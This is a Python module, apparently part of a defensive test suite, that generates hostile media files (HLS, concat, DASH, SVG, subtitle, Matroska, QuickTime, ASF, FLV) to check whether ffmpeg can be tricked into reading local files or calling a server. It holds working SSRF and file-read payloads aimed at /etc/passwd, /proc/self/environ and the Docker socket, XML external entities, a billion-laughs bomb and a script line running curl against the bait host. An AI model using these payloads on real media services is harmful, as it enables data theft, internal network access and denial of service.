"""Files that try to make ffmpeg open another file or call a server: playlists, scripts, references
and known vulnerabilities (CVE-2016-1897, CVE-2016-1898, CVE-2017-9993 and similar ones)."""

from __future__ import annotations

import struct
from collections.abc import Iterator, Mapping

from tools.hostile import matroska as mkv
from tools.hostile import movie, riff
from tools.hostile.kinds import Bait, Hostile
from tools.hostile.pictures import jpeg


def addresses(bait: Bait) -> dict[str, str]:
    """The same two targets, a server and a file, in every notation that ffmpeg knows."""
    host, canary = bait.address, bait.canary
    return {
        "http": f"http://{host}/x.ts",
        "https": f"https://{host}/x.ts",
        "tcp": f"tcp://{host}",
        "udp": f"udp://{host}",
        "rtp": f"rtp://{host}",
        "rtmp": f"rtmp://{host}/a/b",
        "ftp": f"ftp://{host}/x.ts",
        "gopher": f"gopher://{host}/x",
        "tls": f"tls://{host}",
        "hls": f"hls+http://{host}/x.m3u8",
        "crypto-http": f"crypto+http://{host}/x.ts",
        "cache-http": f"cache:http://{host}/x.ts",
        "async-http": f"async:http://{host}/x.ts",
        "ipfs": "ipfs://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi",
        "file": f"file://{canary}",
        "file-bare": f"file:{canary}",
        "path": f"{canary}",
        "relative": canary.name,
        "up": f"../{canary.parent.name}/{canary.name}",
        "concat": f"concat:{canary}|{canary}",
        "concat-http": f"concat:http://{host}/a?|{canary}",
        "subfile": f"subfile,,start,0,end,100000,,:{canary}",
        "crypto-file": f"crypto:{canary}",
        "cache-file": f"cache:{canary}",
        "data": "data:video/mp2t;base64,R0AREABC8CUAAcEAAP8B/wAB",
        "pipe": "pipe:0",
        "fd": "fd:0",
        "passwd": "/etc/passwd",
        "environ": "/proc/self/environ",
        "unix": "unix:/var/run/docker.sock",
    }


def reaching(bait: Bait, bases: Mapping[str, bytes]) -> Iterator[Hostile]:
    """All of them."""
    for name, address in addresses(bait).items():
        yield _text(f"hls-{name}.mp4", f"an HLS playlist of {name}", _hls(address))
    for name in ("http", "file", "path", "relative", "subfile", "data", "pipe"):
        address = addresses(bait)[name]
        concat = f"ffconcat version 1.0\nfile '{address}'\nduration 1\n"
        yield _text(f"concat-{name}.mp4", f"a concat script of {name}", concat)
        gab2 = _gab2(_hls(address).encode())
        yield Hostile(
            f"reach-gab2-{name}.avi", "reaching", f"a playlist as subtitles: {name}", gab2
        )
        for extra, key in {"key": "EXT-X-KEY:METHOD=AES-128", "map": "EXT-X-MAP:A=1"}.items():
            text = f'#EXTM3U\n#EXT-X-TARGETDURATION:1\n#{key},URI="{address}"\n#EXTINF:1,\na.ts\n'
            yield _text(f"hls-{extra}-{name}.mp4", f"an HLS {extra} of {name}", text)
        external = movie.full(b"url ", address.encode() + b"\0")
        yield Hostile(
            f"reach-dref-{name}.mov", "reaching", f"a movie's data: {name}", _dref(external)
        )
    for name, (why, text) in _scripts(bait).items():
        yield _text(name, why, text)
    yield from _binaries(bait, bases)


def _text(name: str, why: str, text: str) -> Hostile:
    return Hostile(f"reach-{name}", "reaching", why, text.encode())


def _hls(address: str) -> str:
    return (
        "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:1\n"
        f"#EXTINF:1,\n{address}\n#EXT-X-ENDLIST\n"
    )


def _scripts(bait: Bait) -> dict[str, tuple[str, str]]:
    url, canary = f"http://{bait.address}", bait.canary
    hls = _hls(f"{url}/x.ts")
    entity = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{url}/dtd"><!ENTITY b SYSTEM "file://{canary}">]>'
    mpd = (
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S">'
    )
    adaptation = (
        '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" '
        'width="64" height="64" codecs="avc1.4d401e">'
    )
    end = "</Representation></AdaptationSet></Period></MPD>"
    svg = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 50}">' for n in range(10)
    )
    return {
        "hls-master.mp4": ("a master playlist", f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}/v.m3u8\n"),
        "hls-media.mp4": ("a playlist with a rendition", "#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="
                          f'"a",NAME="a",URI="{url}/a.m3u8"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n'
                          f"{canary}\n"),
        "hls-session.mp4": ("a playlist with session data", '#EXTM3U\n#EXT-X-SESSION-DATA:DATA-ID="a",'
                            f'URI="{url}/s"\n{hls}'),
        "hls-bytes.mp4": ("a playlist with byte ranges", f"#EXTM3U\n#EXT-X-BYTERANGE:9@0\n#EXTINF:1,\n"
                          f"{canary}\n#EXT-X-ENDLIST\n"),
        "hls-endless.mp4": ("a playlist without an end", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n"
                            + f"#EXTINF:1,\n{url}/x.ts\n" * 5000),
        "hls-bom.mp4": ("a playlist after a byte order mark", "\ufeff" + hls),
        "hls-crlf.mp4": ("a playlist with DOS line ends", hls.replace("\n", "\r\n")),
        "hls.png": ("a playlist named like an image", hls),
        "hls.gif": ("a playlist named like a GIF", hls),
        "hls.mkv": ("a playlist named like a Matroska", hls),
        "dash.mp4": ("a DASH manifest", f'<?xml version="1.0"?>{mpd}<BaseURL>{url}/</BaseURL>'
                     f"{adaptation}<BaseURL>a.mp4</BaseURL>{end}"),
        "dash-template.mp4": ("a DASH manifest with a template", f'<?xml version="1.0"?>{mpd}{adaptation}'
                              f'<SegmentTemplate media="{url}/$Number$" initialization="{url}/i" '
                              f'startNumber="1" duration="1"/>{end}'),
        "dash-file.mp4": ("a DASH manifest of a file", f'<?xml version="1.0"?>{mpd}{adaptation}'
                          f"<BaseURL>file://{canary}</BaseURL>{end}"),
        "dash-entity.mp4": ("a DASH manifest with entities", f'<?xml version="1.0"?>{entity}{mpd}'
                            f"<BaseURL>&a;&b;</BaseURL>{adaptation}{end}"),
        "laughs.mp4": ("a billion laughs in a manifest", '<?xml version="1.0"?><!DOCTYPE x ['
                       f"{laughs}]>{mpd}<BaseURL>&l9;</BaseURL>{adaptation}{end}"),
        "concat-options.mp4": ("a concat script with options", "ffconcat version 1.0\n"
                               f"file '{canary}'\noption protocol_whitelist http,tcp\n"),
        "concat-bare.mp4": ("a concat script without its header", f"file '{canary}'\nfile '{url}/x'\n"),
        "concat-self.mp4": ("a concat script of itself", "ffconcat version 1.0\nfile 'clip'\n" * 50),
        "sdp.mp4": ("an SDP", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
                    "m=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"),
        "rtsp.mp4": ("an RTSP redirection", f"RTSPtext\nrtsp://{bait.address}/x\n"),
        "ref.asf": ("an ASX reference", f"[Reference]\nRef1={url}/x.asf?MSWMExt=.asf\n"),
        "asx.wmv": ("an ASX playlist", f'<ASX version="3.0"><ENTRY><REF HREF="{url}/x"/></ENTRY></ASX>'),
        "pls.mp4": ("a PLS playlist", f"[playlist]\nFile1={url}/x\nNumberOfEntries=1\n"),
        "xspf.mp4": ("an XSPF playlist", '<?xml version="1.0"?><playlist version="1" xmlns="http://xspf'
                     f'.org/ns/0/"><trackList><track><location>{url}/x</location></track></trackList>'
                     "</playlist>"),
        "smil.mp4": ("a SMIL", f'<smil><body><video src="{url}/x.mp4"/></body></smil>'),
        "smooth.mp4": ("a Smooth Streaming manifest", '<SmoothStreamingMedia MajorVersion="2" '
                       f'Duration="1"><StreamIndex Type="video" Url="{url}/{{bitrate}}"/>'
                       "</SmoothStreamingMedia>"),
        "imf.mp4": ("an IMF composition", f'<?xml version="1.0"?>{entity}<CompositionPlaylist xmlns='
                    '"http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0e2e0e2e-0000-0000-'
                    "0000-000000000000</Id></CompositionPlaylist>"),
        "svg.png": ("an SVG with an image on a server", f'<svg {svg} width="100" height="100"><image '
                    f'xlink:href="{url}/x.png" width="9" height="9"/><image href="file://{canary}"/>'
                    "</svg>"),
        "svg-entity.png": ("an SVG with entities", f'<?xml version="1.0"?>{entity}<svg {svg} width="99" '
                           'height="99"><text>&a;&b;</text></svg>'),
        "svg.mp4": ("an SVG named like a clip", f'<?xml version="1.0"?><svg {svg}><image xlink:href='
                    f'"{url}/x.png"/></svg>'),
        "vobsub.mp4": ("a VobSub index", "# VobSub index file, v7 (do not modify this line!)\nid: en\n"
                       f"timestamp: 00:00:00:000, filepos: 0\n{canary}\n"),
        "avs.mp4": ("an AviSynth script", f'AVISource("{canary}")\n'),
        "vpy.mp4": ("a VapourSynth script", f"import os\nos.system('curl {url}')\n"),
        "ffmetadata.mp4": ("ffmpeg's own metadata", ";FFMETADATA1\ntitle=x\n[STREAM]\n"),
        "lavfi.mp4": ("a filter graph", f"movie={canary}[out0]"),
        "webvtt.mp4": ("subtitles", f"WEBVTT\n\n00:00.000 --> 99:00.000\n<img src={url}/x>\n"),
        "srt.mp4": ("subtitles", f"1\n00:00:00,000 --> 99:00:00,000\n<img src={url}/x>\n"),
        "ass.mp4": ("subtitles with a font", "[Script Info]\nScriptType: v4.00+\n\n[Fonts]\nfontname: "
                    f"{canary}\n"),
        "preset.mp4": ("ffmpeg's options", f"-i {url}/x\n-y /tmp/pwned\n"),
        "pattern-%03d.png": ("a name that is a pattern", "no picture"),
        "image-list.png": ("a list of images", f"{canary}\n{url}/x.png\n"),
        "xpm.png": ("an XPM", '/* XPM */\nstatic char *x[] = {"9 9 1 1", "a c #000000"};\n'),
        "m3u-in-text.mp4": ("a playlist after text", "x" * 3000 + "\n" + hls),
    }  # fmt: skip


def _dref(reference: bytes) -> bytes:
    """A QuickTime movie whose samples are in another file."""
    tables = movie.samples([1000] * 5, 0)
    track = movie.trak(movie.entry(128, 96), tables, dref=reference)
    return movie.ftyp() + movie.box(b"moov", movie.mvhd(), track)


def _gab2(playlist: bytes) -> bytes:
    """An AVI whose subtitles are a playlist: ffmpeg opens them as a separate file."""
    text = b"GAB2\0" + struct.pack("<H", 2) + struct.pack("<I", 4) + b"a\0\0\0"
    text += struct.pack("<HI", 4, len(playlist)) + playlist
    streams = [riff.video(128, 96, frames=1), riff.subtitles()]
    return riff.avi(streams, [riff.chunk(b"00dc", jpeg(128, 96)), riff.chunk(b"01tx", text)])


def _alias(path: str) -> bytes:
    """A Mac alias record of a file (`alis`), as ffmpeg reads it."""
    name = path.rpartition("/")[2].encode()[:63]
    told = (
        bytes(4 + 2) + struct.pack(">HH", 0, 0) + bytes([4]) + b"disk".ljust(27, b"\0") + bytes(8)
    )
    told += (
        bytes([len(name)])
        + name.ljust(63, b"\0")
        + bytes(16)
        + struct.pack(">HH", 1, 1)
        + bytes(16)
    )
    for kind, text in ((2, path.lstrip("/").replace("/", ":").encode()), (18, path.encode())):
        told += struct.pack(">HH", kind, len(text)) + text + b"\0" * (len(text) % 2)
    return movie.full(b"alis", told + struct.pack(">HH", 0xFFFF, 0))


def _binaries(bait: Bait, bases: Mapping[str, bytes]) -> Iterator[Hostile]:
    url, canary = f"http://{bait.address}", bait.canary
    frame = jpeg(128, 96)
    linked = mkv.element("3C83AB", f"{canary}") + mkv.element("3CB923", bytes(16))
    linked += mkv.element("3E83BB", f"{url}/next.mkv") + mkv.element("3EB923", b"\1" * 16)
    foreign = mkv.element("73C4", 1) + mkv.element("6E67", b"\2" * 16) + mkv.element("91", 0)
    ordered = mkv.element("45DD", 1) + mkv.element(mkv.CHAPTER, foreign)
    frames = [(0, frame), (500, frame)]
    command = bytes.fromhex("301AFB1E620BD011A39B00A0C90348F6")
    script = bytes(16) + struct.pack("<HH", 1, 1) + struct.pack("<H", 3) + "URL".encode("utf-16-le")
    script += struct.pack("<IHH", 0, 0, len(url)) + url.encode("utf-16-le")
    made = {
        "linked.mkv": ("segments that continue in other files", mkv.matroska(
            [mkv.track(128, 96)], frames, info=linked)),
        "chapters.mkv": ("chapters in other files", mkv.matroska([mkv.track(128, 96)], frames,
            before=mkv.element(mkv.CHAPTERS, mkv.element(mkv.EDITION, ordered)))),
        "playlist-attached.mkv": ("a playlist as attachment", mkv.matroska([mkv.track(128, 96)],
            frames, before=mkv.element(mkv.ATTACHMENTS, mkv.attachment(
                "x.m3u8", "application/vnd.apple.mpegurl", _hls(f"{url}/x.ts").encode())))),
        "playlist-track.mkv": ("a playlist as a track", mkv.matroska([mkv.track(
            128, 96, codec="S_TEXT/WEBVTT")], [(0, _hls(f"{url}/x.ts").encode())])),
        "alias.mov": ("a movie's data on a Mac's disk", _dref(_alias(str(canary)))),
        "alias-up.mov": ("a movie's data in a folder above", _dref(_alias("../" * 9 + str(canary)))),
        "reference.mov": ("a reference movie", movie.ftyp() + movie.box(b"moov", movie.box(b"rmra",
            movie.box(b"rmda", movie.full(b"rdrf", b"url " + struct.pack(">I", len(url)) + url.encode()
            ))))),
        "polyglot.mp4": ("an MP4 that begins as a playlist", movie.box(b"free", b"\n" + _hls(
            f"{url}/x.ts").encode()) + bases["faststart.mp4"]),
        "playlist-first.mp4": ("a playlist, then an MP4", _hls(f"{url}/x.ts").encode()
            + bases["faststart.mp4"]),
        "playlist-last.mp4": ("an MP4, then a playlist", bases["faststart.mp4"]
            + _hls(f"{url}/x.ts").encode()),
        "script.asf": ("an ASF with a command to open a URL", bases["wmv1.asf"][:30]
            + command + struct.pack("<Q", len(script) + 24) + script + bases["wmv1.asf"][30:]),
        "flv-redirect.flv": ("an FLV with a URL in its data", bases["flv1.flv"][:13] + b"\x12"
            + struct.pack(">I", len(url) + 3)[1:] + bytes(7) + b"\2" + struct.pack(">H", len(url))
            + url.encode() + struct.pack(">I", len(url) + 14) + bases["flv1.flv"][13:]),
        "swf.mp4": ("a Flash movie", b"FWS\x06" + struct.pack("<I", 200) + url.encode() + bytes(200)),
        "disc.mp4": ("a DVD's table", b"DVDVIDEO-VMG" + bytes(2036)),
    }  # fmt: skip
    for name, (why, content) in made.items():
        yield Hostile(f"reach-{name}", "reaching", why, content)
